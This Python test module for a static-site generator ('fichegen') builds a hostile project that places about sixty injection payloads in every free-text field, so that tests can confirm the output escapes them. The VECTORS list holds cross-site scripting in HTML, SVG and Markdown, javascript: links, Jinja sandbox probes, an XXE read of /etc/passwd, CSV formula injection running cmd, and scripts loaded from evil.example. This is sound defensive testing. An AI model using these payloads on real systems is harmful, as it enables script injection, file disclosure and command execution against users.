"""An attack corpus and a generator that places it in every free-text field of every fiche type.

The generator walks the Pydantic models (the single source of truth for fields), so a field added
to a model tomorrow is attacked tomorrow without anyone editing this file. Structural fields (ids,
references, codes, dates, numbers, web addresses) get valid values, so the fiches pass `check` and the
attack reaches every page and export; fields that hold text get the attack.
"""

from __future__ import annotations

import copy
import json
import types
import typing
from dataclasses import dataclass, field
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any, Callable

import yaml
from pydantic import AfterValidator, BaseModel

from fichegen.models import FICHE_TYPES, FOLDERS, VOCABULARIES, FuzzyDate, LocalizedMarkdown, LocalizedText

#: name → payload. Each is something a hostile pull request could write into a text field.
VECTORS: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "script-src": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "script-split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "event-mixed-case": '<b OnMouseOver="alert(1)">hover</b>',
    "svg-onload": "<svg onload=alert(1)><circle r=9 /></svg>",
    "svg-script": "<svg><script>alert(1)</script><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "svg-foreign": "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "mathml-href": '<math href="javascript:alert(1)"><mi>x</mi></math>',
    "iframe": '<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe>',
    "object-embed": '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="javascript:alert(1)">',
    "style-tag": "<style>body{background:url(javascript:alert(1))}</style>",
    "style-attr": '<p style="background:url(javascript:alert(1));width:expression(alert(1))">styled</p>',
    "css-import": "<style>@import 'https://evil.example/x.css';</style>",
    "a-javascript": '<a href="javascript:alert(1)">link</a>',
    "a-entity": '<a href="&#106;avascript:alert(1)">link</a>',
    "a-hex-entity": '<a href="&#x6A;&#x61;vascript&colon;alert(1)">link</a>',
    "a-mixed-case": '<a href="JaVaScRiPt:alert(1)">link</a>',
    "a-whitespace": '<a href=" java\tscr\nipt:alert(1)">link</a>',
    "a-vbscript": '<a href="vbscript:msgbox(1)">link</a>',
    "a-data": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>',
    "form-action": '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">go</button></form>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base-href": '<base href="javascript:alert(1)//">',
    "link-import": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "md-link-js": "[click](javascript:alert(1))",
    "md-link-mixed": "[click](JaVaScRiPt:alert(1))",
    "md-link-entity": "[click](&#106;avascript:alert(1))",
    "md-link-angle": "[click](<javascript:alert(1)>)",
    "md-link-vbscript": "[click](vbscript:msgbox(1))",
    "md-link-title": '[click](https://example.org/ "x\\" onmouseover=\\"alert(1)")',
    "md-image-data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "md-image-js": "![x](javascript:alert(1))",
    "md-reference": "[click][evil]\n\n[evil]: javascript:alert(1)",
    "md-autolink": "<javascript:alert(1)>",
    "attr-list-paragraph": 'A paragraph\n{: onclick="alert(1)" style="color:red" }',
    "attr-list-heading": "# Heading {: onclick=alert(1) #main }",
    "attr-list-link": '[x](https://example.org/){: onclick="alert(1)" }',
    "raw-html-block": '<div onclick="alert(1)">\n\n**markdown inside**\n\n</div>',
    "comment-breakout": "<!--><script>alert(1)</script>-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "close-and-open": "</title></textarea></script></style><script>alert(1)</script>",
    "attr-breakout-double": '" onmouseover="alert(1)" x="',
    "attr-breakout-single": "' onfocus='alert(1)' autofocus='",
    "entity-double": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt;",
    "jinja-expression": "{{ 7*7 }}",
    "jinja-distinct": "{{ 123*1001 }}",
    "jinja-statement": "{% for x in range(3) %}loop{% endfor %}{# comment #}",
    "jinja-sandbox": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "xml-entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "xml-pi": '<?xml-stylesheet href="javascript:alert(1)"?>]]>',
    "csv-formula": '=HYPERLINK("https://evil.example/","x")',
    "csv-plus": "+cmd|'/C calc'!A0",
    "csv-minus": "-2+3+cmd|' /C calc'!A0",
    "csv-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "csv-semicolon": 'x;=HYPERLINK("https://evil.example/";"x");',
    "csv-tab-and-lines": "x\t=1+1\n@SUM(1)\r\n-2+3",
    "unicode-lookalike": "＜script＞alert(1)＜/script＞ \u202egnp.exe \u200b\u200d",
    "json-breakout": '"}]}</script><script>alert(1)</script>\u2028\u2029',
}

#: What a Jinja expression would render to if fiche text were ever treated as a template.
JINJA_RESULTS = {"{{ 7*7 }}": "49", "{{ 123*1001 }}": "123123"}


def token(vector: int, field_index: int) -> str:
    """A harmless word that marks where one vector was placed in one field, to follow it into the outputs."""
    return f"zq{vector:02d}f{field_index:03d}zq"


# --- reading the models -------------------------------------------------------------------

def unwrap(tp: Any, metadata: list | None = None) -> tuple[Any, list]:
    """The type without Optional[…] and Annotated[…], and the constraints those carried."""
    metas = list(metadata or [])
    while True:
        origin = typing.get_origin(tp)
        if origin is typing.Annotated:
            tp, *extra = typing.get_args(tp)
            metas += extra
        elif origin in (typing.Union, types.UnionType):
            args = [a for a in typing.get_args(tp) if a is not type(None)]
            records = [a for a in args if isinstance(_bare(a), type) and issubclass(_bare(a), BaseModel)]
            if len(args) == 2 and len(records) == 1:
                args = records        # a code or a record (models.common.by_shape): the record has more fields to fill
            if len(args) != 1:
                raise TypeError(f"cannot fill a union of {args}")
            tp = args[0]
        else:
            return tp, metas


def _bare(tp: Any) -> Any:
    while typing.get_origin(tp) is typing.Annotated:
        tp = typing.get_args(tp)[0]
    return tp


def _pattern(metas: list) -> str | None:
    for m in metas:
        pattern = getattr(m, "pattern", None)
        if pattern:
            return pattern
        for inner in getattr(m, "metadata", []) or []:
            if getattr(inner, "pattern", None):
                return inner.pattern
    return None


def _max_length(metas: list) -> int | None:
    for m in metas:
        for value in (getattr(m, "max_length", None), getattr(m, "max_len", None)):
            if value is not None:
                return value
    return None


def is_free_text(tp: Any, metas: list, name: str) -> bool:
    """A field an editor writes prose into: a str without a pattern or validator, not an address."""
    return (tp is str and _pattern(metas) is None and not any(isinstance(m, AfterValidator) for m in metas)
            and name not in URL_FIELDS)


#: str fields whose value is a web address, checked as such (Organisation.website).
URL_FIELDS = {"url", "website"}


# --- filling models -----------------------------------------------------------------------

@dataclass
class Placement:
    """One vector written into one field of one file."""

    vector: str
    path: str            # kind.field[].sub, e.g. project.activities[].heading
    file: str
    value: str
    truncated: bool = False


@dataclass
class Filler:
    """Builds valid data for a model: `text(path, max_length, markdown, localized)` for free text, `structural(path, type)`
    for the rest."""

    text: Callable[[str, int | None, bool, bool], Any]
    structural: Callable[[str, Any], Any]
    skip: set[str] = field(default_factory=set)

    def model(self, model: type[BaseModel], path: str) -> dict:
        data = {}
        for name, info in model.model_fields.items():
            if f"{path}.{name}" in self.skip:
                continue
            value = self.value(info.annotation, info.metadata, f"{path}.{name}", name)
            if value is not None:
                data[name] = value
        return data

    def value(self, tp: Any, metadata: list, path: str, name: str) -> Any:
        tp, metas = unwrap(tp, metadata)
        origin = typing.get_origin(tp)
        if isinstance(tp, type) and issubclass(tp, LocalizedText):
            return self.text(path, None, issubclass(tp, LocalizedMarkdown), True)
        if origin is list:
            (item,) = typing.get_args(tp)
            value = self.value(item, [], path + "[]", name)
            return None if value is None else [value]
        if origin is dict:
            return None      # translations: stamps written by a command, not text
        if origin is typing.Literal:
            return typing.get_args(tp)[0]
        if isinstance(tp, type) and issubclass(tp, BaseModel):
            return self.model(tp, path)
        if is_free_text(tp, metas, name):
            return self.text(path, _max_length(metas), path.endswith("contributions[].text"), False)
        if tp in (str, int, bool, Decimal, date, FuzzyDate):
            return self.structural(path, tp)
        raise TypeError(f"{path}: no rule to fill a {tp!r}; teach tests/attack_corpus.py")


def free_text_paths(model: type[BaseModel], path: str) -> list[str]:
    """Every field of `model` (nested) an editor writes text into, as kind.field[].sub paths."""
    found: list[str] = []

    def text(p, max_length, markdown, localized):
        found.append(p)
        return None

    Filler(text, lambda p, tp: None).model(model, path)
    return found


# --- the hostile project ------------------------------------------------------------------

ORG, OTHER_ORG = "org", "other-org"
STRUCTURAL: dict[str, Any] = {
    # by the last part of the path; values any hostile project can use
    "original_language": "en", "published": "2024-01-01", "updated": "2024-02-01",
    "organisation": ORG, "responsible": ORG, "adopting": ORG, "organisers": ORG, "parent": OTHER_ORG, "funder": ORG,
    "strategy": "strategy-v{v}", "project": "not-yet-a-fiche-{v}", "priority": "1",
    "programme": "v{v}", "fund": "v{v}", "themes": "v{v}", "target_groups": "v{v}", "regions": "v{v}", "type": "v{v}",
    "countries": "ES", "country": "ES", "language": "en", "languages": "en", "currency": "EUR",
    "url": "https://example.org/page", "website": "https://example.org/",
    "start_date": "2020-03", "end_date": "2030", "start": "2020", "end": "2030", "date": "2021-05-01", "accessed": "2024-01",
    "number": "1", "round": "1", "questions": "1", "count": 5, "duration_months": 24, "baseline_year": 2019,
    "total": "1000", "amount": "500", "rate": "50", "share": "100", "percentage": "100",
    "code": "15190", "sectors": "15190", "region": "014", "world_regions": "014", "iati_region": "1027",
    "latitude": "10.5", "longitude": "-3.25", "id": "3448439", "baseline": "1", "target": "2", "actual": "3", "as_of": "2022",
    "phase": "2", "participants_total": 50,
}


def structural_value(path: str, tp: Any, v: int) -> Any:
    last = path.rsplit(".", 1)[-1].removesuffix("[]")
    if path.endswith("priorities[].objectives[].number"):
        return "1.1"
    if path.endswith(("phases[].project", "places[].region", "strategy.part_of")):
        return None        # a phase's own fiche, a place's region: optional links the corpus has no target for
    if path.endswith("participants[].country"):
        return None
    if last not in STRUCTURAL:
        raise KeyError(f"{path}: no valid value known; add one to STRUCTURAL in tests/attack_corpus.py")
    value = STRUCTURAL[last]
    return value.format(v=f"{v:02d}") if isinstance(value, str) else value


@dataclass
class HostileProject:
    root: Path
    vectors: list[str]
    placements: list[Placement]
    fields: dict[str, list[str]]      # file kind → its free-text paths


def write_hostile_project(root: Path, vectors: dict[str, str] = VECTORS, languages=("en", "fr")) -> HostileProject:
    """A project with one fiche of each type per vector, a vocabulary term per vector, and a hostile fichegen.toml."""
    names = list(vectors)
    field_index: dict[str, int] = {}
    placements: list[Placement] = []
    fields: dict[str, list[str]] = {}

    def texts_for(v: int, file: str):
        payload = vectors[names[v]]

        def text(path: str, max_length: int | None, markdown: bool, localized: bool) -> Any:
            index = field_index.setdefault(path, len(field_index))
            value = f"{payload}\n\n{token(v, index)}"
            truncated = False
            if max_length is not None and len(value) > max_length:
                value, truncated = (payload if len(payload) <= max_length else payload[:max_length]), True
            placements.append(Placement(names[v], path, file, value, truncated))
            if not localized:
                return value
            # Every other vector exists only in English: French pages show it through the fallback marker.
            return {"en": value} if v % 2 else {lang: value for lang in languages}
        return text

    content = root / "content"
    for kind, model in FICHE_TYPES.items():
        fields[kind] = free_text_paths(model, kind)
        for v in range(len(names)):
            fiche_id = f"{kind}-v{v:02d}" if kind != "organisation" else f"org-v{v:02d}"
            file = f"content/{FOLDERS[kind]}/{fiche_id}.yaml"
            data = Filler(texts_for(v, file), lambda p, tp, v=v: structural_value(p, tp, v)).model(model, kind)
            _make_consistent(kind, data, v)
            _write_yaml(root / file, data)
    for name, term_model in VOCABULARIES.items():
        fields[f"vocabulary:{name}"] = free_text_paths(term_model, f"vocabulary:{name}")
        terms = {}
        file = f"content/{VOCABULARY_FOLDER}/{name}.yaml"
        for v in range(len(names)):
            terms[f"v{v:02d}"] = Filler(texts_for(v, file), lambda p, tp, v=v: structural_value(p, tp, v)).model(
                term_model, f"vocabulary:{name}")
            if name == "regions":
                terms[f"v{v:02d}"]["scheme"] = "iso-3166-2"
        _write_yaml(root / file, terms)
    # the organisations every fiche names, plainly
    for org in (ORG, OTHER_ORG):
        _write_yaml(content / "organisations" / f"{org}.yaml",
                    {"original_language": "en", "name": {"en": f"Plain {org}"}, "type": "v00"})
    from fichegen.config import SiteConfig
    fields["config"] = [p for p in free_text_paths(SiteConfig, "config") if p != "config.iati_reporting_org_ref"]
    everything = "\n".join(vectors.values())
    config = {
        "title": {lang: f"Hostile site {lang} {everything}" for lang in languages},
        "tagline": {"en": everything},
        "iati_reporting_org_name": {"en": everything},
    }
    for path in fields["config"]:
        placements += [Placement(n, path, "fichegen.toml", vectors[n]) for n in names]
    licence = next(p for p in vectors.values() if len(p) <= 200 and "<script" in p)
    toml = "\n".join([
        f"title = {_toml(config['title'])}",
        f"tagline = {_toml(config['tagline'])}",
        f"iati_reporting_org_name = {_toml(config['iati_reporting_org_name'])}",
        'iati_reporting_org_ref = "XX-<b>\\"\'x"',
        f"languages = {json.dumps(list(languages))}",
        f"fallback = {json.dumps(list(languages))}",
        'base_url = "https://hostile.example/\\"\'><b>"',
        "build_date = 2024-06-01",
        "[data_licence]",
        f"name = {json.dumps(licence, ensure_ascii=False)}",
        "",
    ])
    (root / "fichegen.toml").write_text(toml, encoding="utf-8")
    return HostileProject(root, names, placements, fields)


VOCABULARY_FOLDER = "vocabularies"


@dataclass
class HostileSite:
    """The hostile project, the folder it was built into, whether it has a search index, and the build result."""

    project: HostileProject
    out: Path
    search: bool
    result: Any


def _make_consistent(kind: str, data: dict, v: int) -> None:
    """What the walker cannot know: rules between fields."""
    if kind == "discussion":
        # a contribution names an organisation fiche or an affiliation, not both: keep one of each
        contribution = data["contributions"][0]
        plain = copy.deepcopy(contribution)
        plain.pop("organisation", None)
        contribution.pop("affiliation", None)
        data["contributions"].append(plain)
    if kind == "project":
        data.pop("status")
        data.pop("duration_months")          # the end date is given: a duration besides would contradict it
        named = data["participants"][0]
        group = copy.deepcopy(named)          # an organisation with a fiche, and a group without one
        named.pop("name"), named.pop("count")
        group.pop("organisation")
        data["participants"].append(group)
        data["related_projects"][0].pop("phase")   # a phase goes with part_of, the first relation is follows
    if kind == "strategy":
        named = data["contributors"][0]
        group = copy.deepcopy(named)          # an organisation with a fiche, and a group without one
        named.pop("name"), named.pop("count")
        group.pop("organisation")
        data["contributors"].append(group)


def _write_yaml(path: Path, data: Any) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10_000), encoding="utf-8")


def _toml(localized: dict[str, str]) -> str:
    # JSON string escapes are valid TOML basic-string escapes
    return "{ " + ", ".join(f"{k} = {json.dumps(v, ensure_ascii=False)}" for k, v in localized.items()) + " }"
